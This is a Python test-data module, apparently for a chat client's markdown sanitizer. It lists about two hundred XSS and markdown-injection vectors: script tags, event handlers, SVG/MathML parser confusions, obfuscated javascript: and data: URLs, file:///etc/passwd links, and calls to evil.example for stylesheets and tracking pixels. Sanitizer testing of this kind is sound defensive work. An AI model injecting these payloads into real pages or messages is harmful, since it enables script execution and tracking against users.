"""Markdown that tries to become more than text: one line each, by class of attack."""

from __future__ import annotations

_SCRIPTS = """\
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script\t>alert(1)</script␤>
<script/x>alert(1)</script>
<script>//<![CDATA[␤alert(1)␤//]]></script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<textarea></textarea><script>alert(1)</script>
<title></title><img src onerror=alert(1)>
<xmp><img src=x onerror=alert(1)></xmp>
<plaintext><script>alert(1)
<noembed><img src=x onerror=alert(1)></noembed>
<object data="data:text/html,<script>alert(1)</script>">
<embed src="javascript:alert(1)">
<applet code=x>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>
<base href="javascript:/a/+alert(1)//">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href="https://evil.example/x.css">
<form action="javascript:alert(1)"><button>x</button></form>
<button formaction="javascript:alert(1)">x</button>
<isindex action="javascript:alert(1)" type=image>"""
_HANDLERS = """\
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src/onerror=alert(1)>
<img src=x:x onerror␤=␤alert(1)>
<img \"\"\"><script>alert(1)</script>">
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<details/open/ontoggle="alert(1)">
<details class="aside" onclick=alert(1)><summary>x</summary></details>
<summary onclick=alert(1)>x</summary>
<details><summary><img src=x onerror=alert(1)></summary></details>
<sub onmouseover=alert(1)>x</sub>
<sub><script>alert(1)</script></sub>
<kbd><img src=x onerror=alert(1)></kbd>
<br onclick=alert(1)>
<br/onclick=alert(1)>
<u style="position:fixed;inset:0">x</u>
<a onmouseover=alert(1)>x</a>
<a href=x onclick=alert(1)>x</a>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<p onclick="alert(1)" style="x:expression(alert(1))">x</p>
<div data-mx-maths='"><script>alert(1)</script>'>x</div>
<span data-mx-spoiler onmouseover=alert(1)>x</span>
<img srcset="x 1x, javascript:alert(1) 2x">
<style>*{background:url("javascript:alert(1)")}</style>
<style>@import '//evil.example/x.css';</style>
<p style="background:url(https://evil.example/track)">x</p>
<img src="https://evil.example/track.gif">"""
_FOREIGN = """\
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>
<math href="javascript:alert(1)">x</math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<!--><img src=x onerror=alert(1)>-->
<!--[if IE]><script>alert(1)</script><![endif]-->
<!-- --!><img src=x onerror=alert(1)>
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE x [<!ENTITY y "<script>">]>
</p><script>alert(1)</script>
</code></pre><script>alert(1)</script>
</span></div></details><script>alert(1)</script>
<<script>alert(1)//<</script>
<scr\0ipt>alert(1)</scr\0ipt>
<img\0src=x onerror=alert(1)>
\ufeff<script>alert(1)</script>
\uff1cscript\uff1ealert(1)\uff1c/script\uff1e
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;
<details><table><details><tr><summary></details>x
<sub><sup></sub></sup>"""
_ADDRESSES = """\
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java&#10;script:alert(1))
[x](java&Tab;script:alert(1))
[x](&#106;avascript:alert(1))
[x](&#x6A&#x61vascript:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](javascript%3Aalert(1))
[x](\x01javascript:alert(1))
[x](\u00a0javascript:alert(1))
[x](\u200bjavascript:alert(1))
[x](<java\tscript:alert(1)>)
[x](< javascript:alert(1)>)
[x](\\javascript:alert(1))
[x](j\u0430vascript:alert(1))
[x](javascr\u0131pt:alert(1))
[x](javascript://example.org/%0aalert(1))
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](file:///etc/passwd)
[x](blob:https://example.org/x)
[x](view-source:https://example.org)
[x](feed:javascript:alert(1))
[x](https:javascript:alert(1))
[x](http:/logout)
[x](https:///logout)
[x](https:logout)
[x](//evil.example)
[x](\\\\\\\\evil.example)
[x](/logout)
[x](#/room/!x:example.org)
[x](?logout=1)
[x](mxc://example.org/x)
[x](ftp://example.org)
[x]()
<javascript:alert(1)>
<JAVASCRIPT:alert(1)>
<data:text/html,x>
<vbscript:x>
[x]␤␤[x]: javascript:alert(1)
[x][y]␤␤[y]: <data:text/html,x> "title"
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2Zz4=)
[![x](javascript:alert(1))](javascript:alert(2))
[![x](https://example.org/x)](javascript:alert(2))
https://example.org/"onmouseover="alert(1)
https://example.org/<script>alert(1)</script>
https://example.org'onclick='alert(1)
www.example.org/"><script>alert(1)</script>
javascript:alert(1)
javascript://www.example.org/%0aalert(1)
mailto:"><script>alert(1)</script>@example.org"""
_MARKDOWN = """\
[x](https://example.org "onmouseover=alert(1)")
[x](https://example.org '"><script>alert(1)</script>')
[x](https://example.org/"onmouseover=alert(1))
[x](<https://example.org/" onmouseover="alert(1)>)
[<img src=x onerror=alert(1)>](https://example.org)
[a](https://a.example/[b](https://b.example))
[https://a.example](https://b.example)
![x" onerror="alert(1)](https://example.org/x)
![<script>alert(1)</script>](https://example.org/x)
```"><script>alert(1)</script>␤```
```x onclick=alert(1)␤```
```<img/src=x/onerror=alert(1)>␤code
~~~"style="x␤~~~
`<script>alert(1)</script>`
    <script>alert(1)</script>
| <script> |␤|--|␤| <img src=x onerror=alert(1)> |
|a|␤|:-:|␤|x|
# <style>*{display:none}</style>
- [x] <input type=checkbox onclick=alert(1)>
<input class="task-list-item-checkbox" checked="checked">
||"><script>alert(1)</script>||
||" onmouseover="alert(1)|x||
||"><img src=x onerror=alert(1)>|x||
||<|>||
$"><script>alert(1)</script>$
$x" onmouseover="alert(1)$
$$␤"><img src=x onerror=alert(1)>␤$$
\\("><svg onload=alert(1)>\\)
\\[ \\alpha" onclick="alert(1) \\]
\\begin{align}"><script>alert(1)</script>\\end{align}
\\begin{<script>}x\\end{<script>}
x[^<script>]␤␤[^<script>]: <img src=x onerror=alert(1)>
x[^a]␤␤[^a]: [x](javascript:alert(1))
x[^a]␤␤[^a]: y[^a]
1) <script>␤2) x
99999999999999. x
<details>␤<details>␤</details>␤<script>alert(1)</script>
@room @bob:example.org
\u202ehttps://example.org/gpj.exe
\0\0\0<script\0>"""

#: Every vector; ␤ stands for a line break inside one.
ATTACKS = [
    vector.replace("␤", "\n")
    for block in (_SCRIPTS, _HANDLERS, _FOREIGN, _ADDRESSES, _MARKDOWN)
    for vector in block.split("\n")
]
